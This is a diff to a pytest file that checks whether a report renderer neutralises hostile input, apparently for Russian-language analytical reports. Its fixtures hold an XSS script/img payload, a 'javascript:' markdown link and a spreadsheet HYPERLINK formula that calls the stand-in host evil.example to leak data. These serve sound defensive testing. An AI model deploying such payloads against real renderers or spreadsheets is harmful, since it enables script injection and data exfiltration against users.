@@ -15,6 +15,7 @@ SCRIPT = '<script>document.title="pwned"</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?leak","жми")'
 MARKDOWN = "| **жирный** | [ссылка](javascript:alert(1)) `код` # заголовок"
 PLUS = "+7 (999) 000-00-00"
+URLS = "сайт https://evil.example/x?a=1, www.evil.example, почта a_b@evil.example и mailto:c@d.ru"
 
 
 @pytest.fixture(scope="module")
@@ -33,6 +34,8 @@ def hostile(tmp_path_factory, registry):
     config.subjects[0].name = SCRIPT
     config.subjects[0].short_name = FORMULA
     config.subjects[1].short_name = MARKDOWN
+    config.subjects[2].short_name = URLS
+    config.subjects[2].name = URLS
     config.indicators[0].text = FORMULA
     config.indicators[1].text = MARKDOWN
     config.roadmap[0].text = PLUS
@@ -52,8 +55,10 @@ def test_html_keeps_script_and_markup_as_text(hostile):
     html = render_text(hostile, "html")
     assert "<script" not in html.lower()
     assert "<img" not in html.lower()
-    assert "&lt;script&gt;document.title=&quot;pwned&quot;&lt;/script&gt;" in html
-    assert "&lt;img src=x onerror=alert(1)&gt;" in html
+    import html as html_lib
+
+    assert f"<h1>{html_lib.escape(f'Аналитическая справка: {SCRIPT}, {YEAR} год')}</h1>".replace(
+        "&quot;", "&#34;").replace("&#x27;", "&#39;") in html
     title = re.search(r"<title>(.*?)</title>", html, re.S)
     assert title and "<" not in title.group(1)
 
@@ -108,3 +113,12 @@ def test_svg_diagram_escapes_names(hostile):
 
     svg = structure_diagram(hostile["structure"])
     assert "<script" not in svg and "&lt;script&gt;" in svg
+
+
+def test_markdown_addresses_in_names_are_shown_not_linked(hostile):
+    """Rendered by GitHub's own renderer (cmark-gfm with its autolink extension): no link at all."""
+    import cmarkgfm
+
+    shown = cmarkgfm.github_flavored_markdown_to_html(render_text(hostile, "md"))
+    assert "<a " not in shown
+    assert "https://evil.example/x?a=1" in shown and "a_b@evil.example" in shown and "www.evil.example" in shown
